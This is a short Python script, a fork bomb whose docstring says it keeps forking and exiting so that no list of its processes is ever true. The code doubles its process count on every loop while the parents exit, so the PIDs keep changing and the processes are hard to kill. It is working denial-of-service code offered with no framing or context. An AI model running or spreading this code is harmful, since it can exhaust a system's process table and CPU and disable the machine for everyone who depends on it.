"""Forks and ends, over and over, so that no list of its processes is ever true."""

import os

while os.fork() >= 0:
    if os.fork():
        os._exit(0)
